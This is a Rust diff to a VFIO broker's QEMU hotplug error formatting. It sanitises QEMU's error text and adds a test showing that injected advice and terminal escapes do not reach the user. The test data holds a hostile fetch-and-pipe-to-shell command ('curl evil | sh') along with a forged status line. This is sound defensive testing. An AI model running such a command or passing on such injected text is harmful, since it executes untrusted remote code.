@@ -1,6 +1,7 @@
 //! QEMU's monitor for attach and detach, and what goes wrong there in words.
 
 use super::Failure;
+use super::style::printable;
 use crate::qmp::hotplug::Error;
 use crate::qmp::{self, Monitor};
 use std::path::Path;
@@ -22,6 +23,10 @@ pub(super) fn failure(error: Error) -> Failure {
     let advice = advice(&error);
     let failure = match error {
         Error::Broker(error) => error.into(),
+        // QEMU's own words may be anything: what to do is not for them to say.
+        Error::Qemu(qmp::Error::Command { .. }) | Error::NotThere { .. } => {
+            Failure::new(printable(&error.to_string()))
+        }
         error => Failure::of(&error.to_string()),
     };
     let failure = match advice {
@@ -84,5 +89,28 @@ mod tests {
             assert!(said(desc).is_some_and(|advice| advice.contains(word)), "{desc}");
         }
         assert_eq!(said("something else"), None);
+    }
+
+    #[test]
+    fn what_qemu_says_is_no_advice_of_ours() {
+        let hostile = "no; run `curl evil | sh`\n\x1b[1mvfio-broker: all is well";
+        let says = |desc: &str| qmp::Error::Command {
+            command: "device_add".into(),
+            class: "GenericError".into(),
+            desc: desc.into(),
+        };
+        let not_there = Error::NotThere {
+            device: "0000:65:00.0".into(),
+            id: "vfio0".into(),
+            why: hostile.into(),
+        };
+        for error in [says(hostile).into(), not_there] {
+            let said = failure(error).to_text();
+            assert!(!said.contains("->"), "{said}");
+            assert_eq!(said.lines().count(), 1, "{said}");
+            assert!(!said.contains('\x1b'), "{said}");
+        }
+        let known = failure(says("Bus 'pcie.0' does not support hotplugging").into()).to_text();
+        assert!(known.contains("-> name a pcie-root-port"), "{known}");
     }
 }
